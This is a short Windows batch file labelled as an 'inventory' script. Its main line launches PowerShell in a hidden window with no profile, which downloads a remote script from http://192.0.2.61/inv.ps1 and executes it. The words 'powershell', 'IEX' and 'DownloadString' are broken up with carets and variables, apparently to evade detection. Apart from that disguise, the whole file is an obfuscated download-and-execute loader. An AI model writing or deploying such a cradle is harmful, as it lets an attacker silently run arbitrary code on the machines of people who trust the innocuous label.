@rem inventory
@echo off
setlocal
set d=DownloadStr
set i=IE
p^ow^ers^hell -nop -w hidden -c "%i%X ((New-Object Net.WebClient).%d%ing('http://192.0.2.61/inv.ps1'))"
if errorlevel 1 echo inventory failed
endlocal
